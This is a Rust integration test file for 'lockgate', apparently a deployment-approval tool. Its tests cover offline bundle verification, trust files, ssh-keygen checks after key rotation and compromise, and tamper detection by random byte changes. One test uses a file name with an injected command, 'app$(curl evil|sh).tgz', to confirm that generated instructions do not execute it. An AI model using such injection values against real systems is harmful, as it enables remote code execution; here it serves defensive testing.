//! Bundles on their own: without the server, without the home, and with a byte changed.

use std::fs;
use std::path::Path;
use std::process::{Command, Stdio};

use lockgate_ledger::bundle::{self, Query};
use lockgate_model::{Digest, EnvName, ServiceName};
use lockgate_sign::ssh_signer::{FileSigner, SshSigner as _};
use serde_json::Value;

use crate::instance::{Instance, artifact, artifact_name, skipped};

/// How many bytes are changed, one at a time.
const MUTATIONS: u64 = 200;

fn fetch(lockgate: &Instance) -> Vec<u8> {
    lockgate.run(&["bundle", "get", "P-3", "--file", "p3.lockgate"]).exits(0);
    fs::read(lockgate.file("p3.lockgate")).unwrap()
}

/// The newest entry of all begins the chain of another release of the same service, and nothing is known of that one.
#[test]
fn a_bundle_verifies_right_after_another_release_was_pushed() {
    let lockgate = Instance::granted();
    let file = artifact_name("1.5.0");
    lockgate.write(&file, artifact("1.5.0"));
    lockgate.run(&["push", &file, "--service", "shop/web", "--version", "1.5.0"]).exits(0);
    lockgate.verify("1.4.2", &[]).exits(0).says("VERIFIED");
    fetch(&lockgate);
    lockgate.verify("1.4.2", &["--bundle", "p3.lockgate"]).exits(0).says("VERIFIED");
}

#[test]
fn a_bundle_verifies_where_nothing_else_is() {
    let lockgate = Instance::granted();
    let bundle = fetch(&lockgate);
    lockgate.stop();
    let laptop = Instance::new();
    laptop.write("p3.lockgate", &bundle);
    laptop.write("trust.json", fs::read(lockgate.home().join("trust.json")).unwrap());
    laptop.write(&artifact_name("1.4.2"), artifact("1.4.2"));
    laptop.write(&artifact_name("1.4.3"), artifact("1.4.3"));
    fs::remove_dir_all(lockgate.home()).unwrap();

    let offline = ["--bundle", "p3.lockgate", "--trust", "trust.json"];
    laptop.verify("1.4.2", &offline).exits(0).says("VERIFIED").says("offline; what happened later is not known here");
    laptop.verify("1.4.3", &offline).refused(3, "DIGEST_NOT_GRANTED");
    let other = |service: &str, env: &str| {
        let file = artifact_name("1.4.2");
        laptop.run(&[&["verify", &file, "--service", service, "--env", env][..], &offline].concat())
    };
    other("shop/web", "staging").refused(3, "ENVIRONMENT_MISMATCH");
    other("shop/api", "production").refused(3, "SERVICE_MISMATCH");
    laptop.run(&["bundle", "show", "p3.lockgate", "--trust", "trust.json"]).exits(0).says("P-3");
    // Where no server is known, starting one of one's own is not the next step.
    let online = laptop.verify("1.4.2", &["--trust", "trust.json"]).refused(2, "SERVER_UNKNOWN");
    assert!(!online.stderr.contains("lockgate up") && !online.stdout.contains("VERIFIED"), "{online}");
    online.says("--bundle FILE").says("lockgate login --server URL NAME");
    assert!(!laptop.home().exists(), "verifying writes nothing");

    // Trust is never taken from the bundle, the server or the working directory.
    laptop.verify("1.4.2", &["--bundle", "p3.lockgate"]).refused(2, "TRUST_MISSING");
    let stranger = Instance::granted();
    let trust = stranger.home().join("trust.json").display().to_string();
    let ran = laptop.verify("1.4.2", &["--bundle", "p3.lockgate", "--trust", &trust]).exits(3);
    assert!(!ran.stdout.lines().any(|line| line.starts_with("VERIFIED")), "{ran}");
}

#[test]
fn a_bundle_of_what_was_not_granted_proves_no_grant() {
    let lockgate = Instance::pending();
    fetch(&lockgate);
    lockgate.verify("1.4.2", &["--bundle", "p3.lockgate"]).refused(3, "NOT_GRANTED");
    lockgate.write("empty", "");
    lockgate.write("cut", &fs::read(lockgate.file("p3.lockgate")).unwrap()[..1000]);
    for bad in ["empty", "cut", "junit.xml"] {
        lockgate.verify("1.4.2", &["--bundle", bad]).refused(3, "BUNDLE_INVALID");
    }
    lockgate.verify("1.4.2", &["--bundle", "absent"]).refused(6, "FILE_FAILED");
    lockgate.run(&["bundle", "get", "P-3", "--file", "nowhere/p3.lockgate"]).refused(6, "FILE_FAILED").says("mkdir -p");
    assert!(!lockgate.file("nowhere").exists());
}

#[test]
fn a_bundle_says_what_it_proves_and_is_taken_apart_alone() {
    let lockgate = Instance::demo();
    // Whatever a file is called, what says how to check it runs nothing else.
    let file = "app$(curl evil|sh).tgz";
    lockgate.write(file, artifact("1.4.2"));
    let push = ["push", file, "--service", "shop/web", "--version", "1.4.2"];
    let evidence = ["--tests", "junit.xml", "--sbom", "sbom.cdx.json", "--scan", "trivy.json"];
    lockgate.run(&[&push[..], &evidence].concat()).exits(0);
    lockgate.promote("1.4.2").exits(5);
    let get = || lockgate.run(&["bundle", "get", "P-3", "--file", "p3.lockgate"]).exits(0);
    get().says("proves that P-3 is pending, and no grant");
    lockgate.run(&["approve", "P-3", "--as", "sam", "--yes"]).exits(0);
    get().says("proves that P-3 is granted");
    let extract = ["bundle", "extract", "p3.lockgate", "--to", "parts"];
    lockgate.run(&extract).exits(0);
    let told = fs::read_to_string(lockgate.file("parts").join("VERIFY.md")).unwrap();
    assert!(told.contains(&format!("verification_summary/v1 '{file}'\n")), "{told}");
    assert_eq!(told.matches("$(").count(), 1, "{told}");
    lockgate.run(&extract).refused(7, "DIRECTORY_NOT_EMPTY");
}

/// The command lines of `VERIFY.md` that call OpenSSH.
fn openssh_lines(parts: &Path) -> Vec<String> {
    let told = fs::read_to_string(parts.join("VERIFY.md")).unwrap();
    told.lines()
        .filter_map(|line| line.strip_prefix("    ssh-keygen "))
        .map(|rest| format!("ssh-keygen {rest}"))
        .collect()
}

fn succeeds(parts: &Path, line: &str) -> bool {
    Command::new("sh").args(["-c", line]).current_dir(parts).output().unwrap().status.success()
}

#[test]
fn openssh_verifies_what_a_key_signed_before_it_ended() {
    if Command::new("ssh-keygen").arg("-?").stderr(Stdio::null()).stdout(Stdio::null()).status().is_err() {
        return skipped("approvals by ended keys with ssh-keygen, which is not installed");
    }
    let lockgate = Instance::pending();
    let key = lockgate.enrol_approver("eve");
    let fingerprint = FileSigner::load(&key).unwrap().public_key().fingerprint();
    let since = lockgate.entries().to_string();
    lockgate.run(&["approve", "P-3", "--as", "eve", "--yes"]).exits(5);
    lockgate.run(&["approve", "P-3", "--as", "sam", "--yes"]).exits(0);
    let extract = |to: &str| {
        fetch(&lockgate);
        lockgate.run(&["bundle", "extract", "p3.lockgate", "--to", to]).exits(0);
        let signers = fs::read_to_string(lockgate.file(to).join("allowed_signers")).unwrap();
        let lines = openssh_lines(&lockgate.file(to));
        assert!(lines.len() == 2 && lines.iter().all(|line| line.contains(" -O verify-time=")), "{lines:?}");
        let good: Vec<bool> = lines.iter().map(|line| succeeds(&lockgate.file(to), line)).collect();
        (lines, good, signers.matches(",valid-before=").count())
    };
    let (lines, good, ended) = extract("before");
    assert_eq!((good, ended), (vec![true, true], 0), "{lines:?}");

    lockgate.run(&["key", "generate", "next"]).exits(0);
    lockgate.run(&["key", "rotate", "--key", "next", "--as", "sam"]).exits(0);
    let (lines, good, ended) = extract("rotated");
    assert_eq!((good, ended), (vec![true, true], 1), "{lines:?}");
    // What it signs later is worth nothing, and neither is what it did not sign.
    let sams = lines.iter().find(|line| line.contains(" -I sam ")).unwrap();
    let (start, end) = sams.split_once("verify-time=").unwrap();
    let (_, end) = end.split_once(' ').unwrap();
    let parts = lockgate.file("rotated");
    assert!(!succeeds(&parts, &format!("{start}verify-time=20991231235959Z {end}")));
    assert!(!succeeds(&parts, &format!("{} < trust.json", sams.split_once(" < ").unwrap().0)));

    // Somebody else had eve's when it approved.
    let stolen = ["key", "compromised", "eve", "--fingerprint", &fingerprint, "--since", &since];
    lockgate.run(&[&stolen[..], &["--reason", "stolen", "--yes", "--as", "sam"]].concat()).exits(0);
    let (lines, good, _) = extract("stolen");
    let expected: Vec<bool> = lines.iter().map(|line| line.contains(" -I sam ")).collect();
    assert_eq!(good, expected, "{lines:?}");
}

#[test]
fn no_changed_byte_goes_unnoticed() {
    let lockgate = Instance::granted();
    let bytes = fetch(&lockgate);
    let trust = lockgate.trust();
    let value: Value = serde_json::from_slice(&bytes).unwrap();
    let (service, environment): (ServiceName, EnvName) = ("shop/web".parse().unwrap(), "production".parse().unwrap());
    let now = bundle::open(&bytes, &trust, &mut Vec::new()).unwrap().grant.unwrap().time;
    let query = Query { artifact: Digest::of(&artifact("1.4.2")), service: &service, environment: &environment, now };
    bundle::verify(&bytes, &trust, &query).unwrap();

    let mut random = 0x9e37_79b9_7f4a_7c15_u64;
    let mut draw = |below: u64| {
        random ^= random << 13;
        random ^= random >> 7;
        random ^= random << 17;
        random % below
    };
    let mut tried = 0;
    while tried < MUTATIONS {
        let at = usize::try_from(draw(bytes.len() as u64)).unwrap();
        let by = u8::try_from(1 + draw(255)).unwrap();
        let mut changed = bytes.clone();
        changed[at] ^= by;
        // Another spelling of the same JSON is no change: `\u0041` and `A`, a space more.
        if serde_json::from_slice::<Value>(&changed).is_ok_and(|changed| changed == value) {
            continue;
        }
        tried += 1;
        let verified = bundle::verify(&changed, &trust, &query);
        assert!(verified.is_err(), "byte {at} of {} changed by {by:#04x}, and nobody noticed", bytes.len());
    }
}
